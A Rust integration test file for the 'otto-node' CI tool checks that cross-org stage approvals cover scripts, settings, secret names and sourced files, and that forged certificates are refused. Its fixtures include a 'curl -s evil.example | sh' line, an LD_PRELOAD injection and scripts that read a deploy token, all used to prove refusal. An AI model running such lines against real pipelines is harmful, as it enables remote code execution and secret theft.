//! Issue #12, rows 9 to 11, with two real `otto-node` processes of two orgs on 127.0.0.1:
//! an approval covers what a foreign stage runs (its steps and the source files it names
//! with `uses`) and what it receives (the names of its secrets, within the owner's policy),
//! and each refusal shows its reason on the asker's side.

use serde_json::Value;

use crate::node_support::{Node, project, stage_of, text};

/// dev-1 of acme-dev joined to ops-1 of acme-ops, which lets acme-dev hand it `Deploy*`
/// stages with approved inline steps, and these further invite flags.
fn two_orgs(invite_flags: &[&str]) -> (Node, Node) {
    two_orgs_with_slots(invite_flags, None)
}

/// [`two_orgs`], with `[agent] slots` set on ops when given.
fn two_orgs_with_slots(invite_flags: &[&str], ops_slots: Option<usize>) -> (Node, Node) {
    two_orgs_made(invite_flags, ops_slots, &[])
}

/// [`two_orgs_with_slots`], ops made with these further init flags.
fn two_orgs_made(
    invite_flags: &[&str],
    ops_slots: Option<usize>,
    ops_init: &[&str],
) -> (Node, Node) {
    let mut dev = Node::init_as("acme-dev", "dev-1", &["--answers-to", "dev"]);
    let mut init = vec!["--answers-to", "ops"];
    init.extend_from_slice(ops_init);
    let mut ops = Node::init_as("acme-ops", "ops-1", &init);
    if let Some(slots) = ops_slots {
        let path = ops.home.join("config.toml");
        let config = std::fs::read_to_string(&path).unwrap();
        assert!(config.contains("\n[agent]\n"), "{config}");
        let config = config.replace("\n[agent]\n", &format!("\n[agent]\nslots = {slots}\n"));
        std::fs::write(&path, config).unwrap();
    }
    dev.start();
    ops.start();
    let mut args = vec![
        "invite",
        "--role",
        "deploy",
        "--stages",
        "Deploy*",
        "--definitions",
        "approved",
    ];
    args.extend_from_slice(invite_flags);
    let invite = ops.otto_node(&args);
    assert!(invite.status.success(), "invite: {}", text(&invite.stderr));
    let token = text(&invite.stdout).trim().to_owned();
    let joined = dev.otto_node(&["join", &token, "--alias", "ops"]);
    assert!(joined.status.success(), "join: {}", text(&joined.stderr));
    (dev, ops)
}

/// Runs the project on dev and waits for the run to end; its status.
fn run_to_end(dev: &Node, dir: &tempfile::TempDir) -> (String, Value) {
    let run = dev
        .ok(&["run", dir.path().to_str().unwrap(), "--detach"])
        .trim()
        .to_owned();
    let status = dev.wait_final(&run);
    (run, status)
}

fn note<'a>(status: &'a Value, stage: &str) -> &'a str {
    stage_of(status, stage)
        .and_then(|s| s["note"].as_str())
        .unwrap_or_default()
}

/// The digest a refusal's note names for approval.
fn digest_in(note: &str) -> String {
    note.split_whitespace()
        .find_map(|w| {
            w.trim_matches(|c| c == '`' || c == ';')
                .strip_prefix("sha256:")
        })
        .map(|hex| format!("sha256:{}", &hex[..64]))
        .unwrap_or_else(|| panic!("no digest in {note:?}"))
}

fn approve(ops: &Node, digest: &str) {
    let approved = ops.otto_node(&["approve", digest]);
    assert!(
        approved.status.success(),
        "approve: {}",
        text(&approved.stderr)
    );
}

const USES: &str = "
stage('Build') { steps { echo 'built' } }
stage('Deploy') {
  owner = 'ops'
  uses ['deploy.sh', 'k8s/']
  steps { sh 'ls -R; sh ./deploy.sh' }
}
";

/// Row 9: ops approved `sh ./deploy.sh`; dev changing only deploy.sh is a new definition,
/// refused until ops approves it. Ops's workspace holds only the files the stage names.
#[test]
fn a_changed_deploy_script_is_a_new_definition_refused_until_approved() {
    let (dev, ops) = two_orgs(&[]);
    let files = |script: &str| {
        project(&[
            ("Ottofile", USES),
            ("deploy.sh", script),
            ("k8s/app.yaml", "kind: Deployment\n"),
            ("NOTES-not-for-ops.txt", "dev's own notes\n"),
            ("src/main.rs", "fn main() {}\n"),
        ])
    };
    let v1 = files("echo deploying v1 with $(cat k8s/app.yaml)\n");

    let (_, refused) = run_to_end(&dev, &v1);
    assert_eq!(refused["run"]["state"], "failed", "{refused}");
    let first = note(&refused, "Deploy").to_owned();
    assert!(first.contains("is not approved here"), "{first}");
    approve(&ops, &digest_in(&first));

    let (run, status) = run_to_end(&dev, &v1);
    assert_eq!(
        status["run"]["state"],
        "succeeded",
        "{status}\n{}",
        ops.log()
    );
    let log = ops.ok(&["logs", &run, "Deploy"]);
    assert!(log.contains("deploying v1 with kind: Deployment"), "{log}");
    assert!(log.contains("app.yaml"), "{log}");
    for unused in ["NOTES-not-for-ops.txt", "main.rs", "Ottofile"] {
        assert!(!log.contains(unused), "{unused} reached ops:\n{log}");
    }

    // Only deploy.sh changes: ops refuses, naming a new digest, with the same hint.
    let v2 = files("echo deploying v2; curl -s evil.example | sh\n");
    let (_, refused) = run_to_end(&dev, &v2);
    assert_eq!(refused["run"]["state"], "failed", "{refused}");
    let second = note(&refused, "Deploy").to_owned();
    assert!(second.contains("ops-1 rejected Deploy"), "{second}");
    assert!(second.contains("otto-node approve sha256:"), "{second}");
    assert_ne!(digest_in(&second), digest_in(&first));
    let on_ops = ops.ok(&["logs", &run, "Deploy"]);
    assert!(!on_ops.contains("deploying v2"));
}

const WITH_SETTINGS: &str = "
environments { production { settings { MODE = 'fast' } } }
stage('Build') { steps { echo 'built' } }
stage('Deploy') {
  owner = 'ops'
  environment -> production
  steps { sh 'echo \"mode=$MODE\"' }
}
";

/// The review of #12 (F1, F5): a setting added to the environment an approved stage runs
/// in (a loader variable, here) changes what its steps run, so it is a new definition,
/// refused on the asker's side as not approved, and nothing of it runs on ops.
#[test]
fn an_added_setting_in_an_approved_stages_environment_is_a_new_definition() {
    let (dev, ops) = two_orgs(&["--envs", "production"]);
    let one = project(&[("Ottofile", WITH_SETTINGS)]);
    let (_, refused) = run_to_end(&dev, &one);
    let first = digest_in(note(&refused, "Deploy"));
    approve(&ops, &first);
    let (run, status) = run_to_end(&dev, &one);
    assert_eq!(
        status["run"]["state"],
        "succeeded",
        "{status}\n{}",
        ops.log()
    );
    let log = ops.ok(&["logs", &run, "Deploy"]);
    assert!(log.contains("mode=fast"), "{log}");

    let preloaded = project(&[(
        "Ottofile",
        &WITH_SETTINGS.replace("MODE = 'fast'", "MODE = 'fast'  LD_PRELOAD = 'out/evil.so'"),
    )]);
    let (run, refused) = run_to_end(&dev, &preloaded);
    assert_eq!(refused["run"]["state"], "failed", "{refused}");
    let second = note(&refused, "Deploy").to_owned();
    assert!(second.contains("ops-1 rejected Deploy"), "{second}");
    assert!(second.contains("is not approved here"), "{second}");
    assert!(second.contains("definition_not_approved"), "{second}");
    assert_ne!(digest_in(&second), first);
    let on_ops = ops.otto(&["logs", &run, "Deploy"]);
    assert!(
        !text(&on_ops.stdout).contains("mode="),
        "{}",
        text(&on_ops.stdout)
    );
}

const WITH_SECRETS: &str = "
environments { production { secrets { DEPLOY_TOKEN } } }
stage('Build') { steps { echo 'built' } }
stage('Deploy') {
  owner = 'ops'
  environment -> production
  steps {
    sh 'echo \"token: $(cat \"$OTTO_SECRETS_DIR/DEPLOY_TOKEN\")\"; ls \"$OTTO_SECRETS_DIR\"'
    sh 'echo \"encoded: $(base64 < \"$OTTO_SECRETS_DIR/DEPLOY_TOKEN\")\"'
  }
}
";

/// Row 10: the names of the secrets a stage receives are part of its approved definition,
/// and ops's policy for acme-dev names which of its secrets may be used at all.
#[test]
fn an_added_secret_name_is_refused_by_policy_and_then_by_its_digest() {
    let (mut dev, ops) = two_orgs(&["--envs", "production", "--secrets", "DEPLOY_TOKEN"]);
    for (name, value) in [
        ("DEPLOY_TOKEN", "ops-deploy-token-5a1"),
        ("PROD_DB_PASSWORD", "ops-db-password-77c"),
    ] {
        let set = ops.otto_with_stdin(&["secrets", "set", name], Some(value.as_bytes()));
        assert!(set.status.success(), "secrets set: {}", text(&set.stderr));
    }
    let one = project(&[("Ottofile", WITH_SECRETS)]);
    let (_, refused) = run_to_end(&dev, &one);
    approve(&ops, &digest_in(note(&refused, "Deploy")));
    let (run, status) = run_to_end(&dev, &one);
    assert_eq!(
        status["run"]["state"],
        "succeeded",
        "{status}\n{}",
        ops.log()
    );
    let log = ops.ok(&["logs", &run, "Deploy"]);
    assert!(log.contains("token: ***"), "{log}");
    assert!(!log.contains("PROD_DB_PASSWORD"), "{log}");

    // Dev adds a secret name ops never gave it: refused with the secret's name, before
    // anything runs.
    let two = project(&[(
        "Ottofile",
        &WITH_SECRETS.replace("{ DEPLOY_TOKEN }", "{ DEPLOY_TOKEN  PROD_DB_PASSWORD }"),
    )]);
    let (run, refused) = run_to_end(&dev, &two);
    assert_eq!(refused["run"]["state"], "failed", "{refused}");
    let why = note(&refused, "Deploy");
    assert!(why.contains("ops-1 rejected Deploy"), "{why}");
    assert!(
        why.contains("may not use secret \"PROD_DB_PASSWORD\""),
        "{why}"
    );
    assert!(
        !ops.otto(&["status", &run]).status.success(),
        "ops kept no record of the refused run"
    );

    // Ops's policy now allows it; the approval of the stage with one secret does not
    // cover the stage with two: a new digest to approve.
    let policy = ops.otto_node(&[
        "trust",
        "policy",
        "acme-dev",
        "--secrets",
        "DEPLOY_TOKEN,PROD_DB_PASSWORD",
    ]);
    assert!(policy.status.success(), "policy: {}", text(&policy.stderr));
    assert!(
        text(&policy.stdout).contains("DEPLOY_TOKEN, PROD_DB_PASSWORD"),
        "{}",
        text(&policy.stdout)
    );
    let (_, refused) = run_to_end(&dev, &two);
    let why = note(&refused, "Deploy").to_owned();
    assert!(why.contains("is not approved here"), "{why}");
    approve(&ops, &digest_in(&why));
    let (run, status) = run_to_end(&dev, &two);
    assert_eq!(status["run"]["state"], "succeeded", "{status}");
    let log = ops.ok(&["logs", &run, "Deploy"]);
    assert!(log.contains("PROD_DB_PASSWORD"), "{log}");

    // Row 4 of the build list: no secret value, plain or base64, reaches dev, whether in
    // the status gossip it recorded, its logs or any file of its home.
    let dev_log = dev.wait_for("ops's log lines on dev", || {
        let log = dev.ok(&["logs", &run, "Deploy"]);
        log.contains("encoded: ***").then_some(log)
    });
    assert!(dev_log.contains("token: ***"), "{dev_log}");
    // Each value, and its base64 as `base64` prints it.
    let values: Vec<&[u8]> = vec![
        b"ops-deploy-token-5a1",
        b"b3BzLWRlcGxveS10b2tlbi01YTE=",
        b"ops-db-password-77c",
        b"b3BzLWRiLXBhc3N3b3JkLTc3Yw==",
    ];
    let status = dev.ok(&["status", &run, "--json"]);
    assert!(dev.terminate());
    let mut files = vec![dev.home.clone()];
    let mut seen = 0;
    while let Some(path) = files.pop() {
        if path.is_dir() {
            files.extend(
                std::fs::read_dir(&path)
                    .unwrap()
                    .flatten()
                    .map(|e| e.path()),
            );
            continue;
        }
        let bytes = std::fs::read(&path).unwrap_or_default();
        seen += 1;
        for value in &values {
            assert!(
                !bytes.windows(value.len()).any(|w| w == *value),
                "a secret of ops is in {} on dev",
                path.display()
            );
        }
    }
    assert!(seen > 3, "dev's home has its files");
    for value in &values {
        let value = String::from_utf8_lossy(value);
        assert!(!dev_log.contains(value.as_ref()), "{dev_log}");
        assert!(!status.contains(value.as_ref()), "{status}");
    }
}

/// Six copies of one definition; each prints when it starts and ends (nanoseconds).
const WIDE: &str = r#"
stage('Build') { steps { echo 'built' } }
each('a', 'b', 'c', 'd', 'e', 'f') {
  stage {
    name = concat('Deploy ', it)
    owner = 'ops'
    steps { sh 'echo "start $(date +%s%N)"; sleep 1; echo "end $(date +%s%N)"' }
  }
}
"#;

/// Row 11: one approval covers the matrix's one definition, and ops runs at most
/// `max_parallel` (by default 2) stages of dev's run at once, though it has agent slots to
/// spare; the others wait, queued, with the reason shown on dev, and all succeed.
#[test]
fn a_wide_matrix_runs_at_most_max_parallel_at_once_on_the_owner() {
    let (dev, ops) = two_orgs_with_slots(&[], Some(8));
    let dir = project(&[("Ottofile", WIDE)]);
    let (_, refused) = run_to_end(&dev, &dir);
    // The first refusal ends the run; the copies refused name one digest.
    let digests: std::collections::BTreeSet<String> = ["a", "b", "c", "d", "e", "f"]
        .iter()
        .map(|c| note(&refused, &format!("Deploy {c}")))
        .filter(|n| n.contains("otto-node approve sha256:"))
        .map(digest_in)
        .collect();
    assert_eq!(digests.len(), 1, "one definition: {refused}");
    approve(&ops, digests.first().unwrap());

    let run = dev
        .ok(&["run", dir.path().to_str().unwrap(), "--detach"])
        .trim()
        .to_owned();
    let queued = dev.wait_for("a queued copy, seen on dev", || {
        let status = dev.status(&run);
        status["stages"].as_array()?.iter().find_map(|s| {
            let note = s["note"].as_str()?;
            note.contains("queued").then(|| note.to_owned())
        })
    });
    assert!(queued.starts_with("ops-1: queued"), "{queued}");
    assert!(queued.contains("max_parallel"), "{queued}");
    let status = dev.wait_final(&run);
    assert_eq!(
        status["run"]["state"],
        "succeeded",
        "{status}\n{}",
        ops.log()
    );

    let clock = |log: &str, word: &str| -> u128 {
        log.lines()
            .find_map(|l| l.split_once(word)?.1.trim().parse().ok())
            .unwrap_or_else(|| panic!("no {word:?} in {log}"))
    };
    let windows: Vec<(u128, u128)> = ["a", "b", "c", "d", "e", "f"]
        .iter()
        .map(|c| {
            let log = ops.ok(&["logs", &run, &format!("Deploy {c}")]);
            (clock(&log, "start "), clock(&log, "end "))
        })
        .collect();
    let most = windows
        .iter()
        .map(|(start, _)| {
            windows
                .iter()
                .filter(|(s, e)| s <= start && start < e)
                .count()
        })
        .max()
        .unwrap();
    assert_eq!(most, 2, "{windows:?}");
}

/// #12 F3: a root node that names no step user (`otto-node init --no-run-as`) would run
/// another org's approved stage as root: it refuses the offer before accepting it (no
/// approval would make it run the stage), and the asker sees why and what to set. (Every
/// other two-org test here runs ops's steps as the step user `otto-step` when it runs as
/// root: the tests' `init` names it.)
#[test]
fn a_root_node_without_a_step_user_refuses_other_orgs_stages_naming_the_fix() {
    if !rustix::process::geteuid().is_root() {
        println!("skipped: only a root node runs steps as root");
        return;
    }
    let (dev, ops) = two_orgs_made(&[], None, &["--no-run-as"]);
    let dir = project(&[(
        "Ottofile",
        "stage('Deploy') {\n  owner = 'ops'\n  steps {\n    sh 'echo RAN-AS-ROOT'\n  }\n}\n",
    )]);
    let (run, status) = run_to_end(&dev, &dir);
    let deploy = stage_of(&status, "Deploy").unwrap();
    assert_eq!(deploy["state"], "failed", "{status}");
    // The offer's answer carries the reason: not "approve", which would change nothing.
    let why = note(&status, "Deploy");
    assert!(why.contains("ops-1 rejected Deploy"), "{why}");
    assert!(
        why.contains("refuses other orgs' stages without a wall"),
        "{why}"
    );
    assert!(
        why.contains("steps run as root: set [agent] run_as to an unprivileged user"),
        "{why}"
    );
    assert!(why.contains("(out_of_scope)"), "{why}");
    assert!(!why.contains("otto-node approve"), "{why}");
    // Ops accepted nothing: it holds no run, so nothing of it ran.
    let on_ops = ops.otto(&["logs", &run, "Deploy"]);
    assert!(!on_ops.status.success(), "{}", text(&on_ops.stdout));
    assert!(!text(&on_ops.stdout).contains("RAN-AS-ROOT"));
    assert!(!ops.log().contains("RAN-AS-ROOT"));
}

/// The review of #12, F2: dev's own Build archives its script and its output as `app`;
/// ops's approved Deploy names `deploy.sh` with `uses`, makes `out/` (its own directory,
/// so the artifact may fill it: F2-e), unpacks `app` and runs `./deploy.sh`.
const SHADOW: &str = "
environments { production { secrets { DEPLOY_TOKEN } } }
stage('Build') {
  steps {
    sh 'mkdir -p app/out && echo v1 > app/out/version.txt && if [ -f evil.sh ]; then cp evil.sh app/deploy.sh; else cp deploy.sh app/; fi'
    dir 'app' { archive path: '.', name: 'app' }
  }
}
stage('Deploy') {
  owner = 'ops'
  environment -> production
  uses ['deploy.sh']
  steps {
    sh 'mkdir out'
    unarchive name: 'app'
    sh 'sh ./deploy.sh'
  }
}
";

/// F2 of the review of #12: an approval covers the digest of `deploy.sh`, and an input
/// artifact made by the asker's own stage cannot put other bytes in its place. The honest
/// artifact holds the same `deploy.sh` (it archives the whole workspace) and runs; once
/// dev's Build copies its own script over `deploy.sh`, ops refuses the artifact's entry,
/// naming the file and the artifact, and nothing of dev's script runs with ops's secret.
#[test]
fn an_artifact_cannot_replace_a_file_the_approval_covers() {
    let (dev, ops) = two_orgs(&["--envs", "production", "--secrets", "DEPLOY_TOKEN"]);
    let set = ops.otto_with_stdin(
        &["secrets", "set", "DEPLOY_TOKEN"],
        Some(b"ops-deploy-token-f2"),
    );
    assert!(set.status.success(), "secrets set: {}", text(&set.stderr));
    let deploy = "echo \"deploying $(cat out/version.txt)\"\n";
    let evil = "echo \"EVIL as $(id -u): $(rev < \"$OTTO_SECRETS_DIR/DEPLOY_TOKEN\")\"\n";
    let honest = project(&[("Ottofile", SHADOW), ("deploy.sh", deploy)]);
    let (_, refused) = run_to_end(&dev, &honest);
    approve(&ops, &digest_in(note(&refused, "Deploy")));
    let (run, status) = run_to_end(&dev, &honest);
    assert_eq!(
        status["run"]["state"],
        "succeeded",
        "{status}\n{}",
        ops.log()
    );
    let log = ops.ok(&["logs", &run, "Deploy"]);
    assert!(log.contains("deploying v1"), "{log}");

    // Only dev's own stage changes (no approval covers it): its artifact's deploy.sh is
    // dev's script. The approved digest of the Deploy stage is the same.
    let hostile = project(&[
        ("Ottofile", SHADOW),
        ("deploy.sh", deploy),
        ("evil.sh", evil),
    ]);
    let (run, status) = run_to_end(&dev, &hostile);
    let log = ops.ok(&["logs", &run, "Deploy"]);
    assert!(!log.contains("EVIL"), "dev's script ran on ops:\n{log}");
    assert!(!log.contains("2f-nekot"), "{log}");
    assert_eq!(status["run"]["state"], "failed", "{status}\n{log}");
    let refusal = log
        .lines()
        .find(|l| l.contains("refused"))
        .unwrap_or_else(|| panic!("no refusal in {log}"));
    assert!(refusal.contains("'deploy.sh'"), "{refusal}");
    assert!(refusal.contains("artifact 'app'"), "{refusal}");
    // The asker reads the same reason.
    let why = dev.wait_for("the refusal on dev", || {
        let log = dev.ok(&["logs", &run, "Deploy"]);
        log.contains("refused").then_some(log)
    });
    assert!(why.contains("'deploy.sh'"), "{why}");
    assert!(!why.contains("EVIL"), "{why}");
}

/// F2-e of the review of #12: dev's Build puts the `lib.sh` that the approved
/// `deploy.sh` sources in the artifact, unpacked beside it. An approval covers
/// `deploy.sh`'s bytes, not `lib.sh`'s, so ops refuses the entry, the reason (name it in
/// `uses`, or unpack inputs in a directory of their own) reaches dev, and nothing of
/// dev's `lib.sh` runs with ops's secret.
const SOURCES: &str = "
environments { production { secrets { DEPLOY_TOKEN } } }
stage('Build') {
  steps {
    sh 'mkdir -p app && cp lib.sh app/ && echo v1 > app/version.txt'
    dir 'app' { archive path: '.', name: 'app' }
  }
}
stage('Deploy') {
  owner = 'ops'
  environment -> production
  uses ['deploy.sh']
  steps {
    unarchive name: 'app'
    sh 'sh ./deploy.sh'
  }
}
";

#[test]
fn a_file_a_used_script_sources_is_covered_only_when_named_in_uses() {
    let (dev, ops) = two_orgs(&["--envs", "production", "--secrets", "DEPLOY_TOKEN"]);
    let set = ops.otto_with_stdin(
        &["secrets", "set", "DEPLOY_TOKEN"],
        Some(b"ops-deploy-token-f2e"),
    );
    assert!(set.status.success(), "secrets set: {}", text(&set.stderr));
    let deploy =
        ". ./lib.sh\necho \"deploying $(cat \"${1:-.}/version.txt\") with $(lib_version)\"\n";
    let lib = "echo \"LIB-RAN: $(rev < \"$OTTO_SECRETS_DIR/DEPLOY_TOKEN\")\"\nlib_version() { echo lib-1; }\n";
    let beside = project(&[
        ("Ottofile", SOURCES),
        ("deploy.sh", deploy),
        ("lib.sh", lib),
    ]);
    let (_, refused) = run_to_end(&dev, &beside);
    approve(&ops, &digest_in(note(&refused, "Deploy")));
    let (run, status) = run_to_end(&dev, &beside);
    let log = ops.ok(&["logs", &run, "Deploy"]);
    assert_eq!(status["run"]["state"], "failed", "{status}\n{log}");
    assert!(!log.contains("LIB-RAN"), "dev's lib.sh ran on ops:\n{log}");
    assert!(!log.contains("e2f-nekot"), "{log}");
    assert!(!log.contains("deploying"), "{log}");
    let refusal = log
        .lines()
        .find(|l| l.contains("refused archive entry"))
        .unwrap_or_else(|| panic!("no refusal in {log}"));
    assert!(refusal.contains("artifact 'app'"), "{refusal}");
    assert!(
        refusal.contains("to the top of the workspace, the directory of 'deploy.sh'"),
        "{refusal}"
    );
    assert!(refusal.contains("name the file in uses"), "{refusal}");
    let why = dev.wait_for("the refusal on dev", || {
        let log = dev.ok(&["logs", &run, "Deploy"]);
        log.contains("refused archive entry").then_some(log)
    });
    assert!(why.contains("the directory of 'deploy.sh'"), "{why}");

    // Named in uses, lib.sh is part of the definition (a new digest to approve), comes
    // from dev's source as approved, and the artifact unpacks in a directory of its own.
    let named = SOURCES
        .replace("uses ['deploy.sh']", "uses ['deploy.sh', 'lib.sh']")
        .replace(
            "unarchive name: 'app'\n    sh 'sh ./deploy.sh'",
            "dir 'in' { unarchive name: 'app' }\n    sh 'sh ./deploy.sh in'",
        );
    assert_ne!(named, SOURCES);
    let covered = project(&[("Ottofile", &named), ("deploy.sh", deploy), ("lib.sh", lib)]);
    let (_, refused) = run_to_end(&dev, &covered);
    approve(&ops, &digest_in(note(&refused, "Deploy")));
    let (run, status) = run_to_end(&dev, &covered);
    let log = ops.ok(&["logs", &run, "Deploy"]);
    assert_eq!(
        status["run"]["state"],
        "succeeded",
        "{status}\n{log}\n{}",
        ops.log()
    );
    assert!(log.contains("deploying v1 with lib-1"), "{log}");
}

/// A node of acme-dev that certifies itself, with acme-dev's own org key, as a node of
/// acme-ops (the owner's org, its name only) is still acme-dev to ops: ops knows an org by
/// the key that signed a certificate, never by the name the certificate claims. So the
/// forged name lists dev-1 under acme-dev, and gets none of acme-ops's own rights: a stage
/// ops never approved is refused, and nothing of it runs.
#[test]
fn a_peer_certificate_claiming_the_owners_org_name_is_still_its_own_org() {
    let (mut dev, ops) = two_orgs(&[]);
    assert!(dev.terminate());
    let org_key = otto_trust::persist::load_org_key(&dev.home.join("org.key")).unwrap();
    let node_key = otto_trust::persist::load_node_key(&dev.home.join("node.key"))
        .unwrap()
        .public_key();
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs();
    let spec = otto_trust::CertSpec {
        node: "dev-1".into(),
        org: "acme-ops".into(),
        node_key,
        roles: vec!["deploy".into()],
        not_before: now - 60,
        not_after: now + 86_400,
    };
    let forged = otto_trust::cert::issue_cert(&spec, &org_key).unwrap();
    std::fs::write(
        dev.home.join("node.cert"),
        otto_protocol::encode_envelope(&forged),
    )
    .unwrap();
    dev.start();

    let dir = project(&[(
        "Ottofile",
        "stage('Build') { steps { echo 'built' } }
stage('Deploy') { owner = 'ops'  steps { sh 'echo ran-on-ops' } }
",
    )]);
    let (run, status) = run_to_end(&dev, &dir);
    assert_eq!(status["run"]["state"], "failed", "{status}");
    let why = note(&status, "Deploy").to_owned();
    assert!(
        why.contains("ops-1 rejected Deploy"),
        "{why}\n{}",
        ops.log()
    );
    let on_ops = ops.otto(&["logs", &run, "Deploy"]);
    assert!(
        !text(&on_ops.stdout).contains("ran-on-ops"),
        "{}",
        text(&on_ops.stdout)
    );

    let peers = ops.otto_node(&["peers", "--json"]);
    assert!(peers.status.success(), "{}", text(&peers.stderr));
    let peers: Value = serde_json::from_slice(&peers.stdout).unwrap();
    let dev_1 = peers["peers"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["node"] == "dev-1")
        .unwrap_or_else(|| panic!("{peers}"));
    assert_eq!(dev_1["org"], "acme-dev", "{peers}");
    println!("refusal on dev: {why}");
}
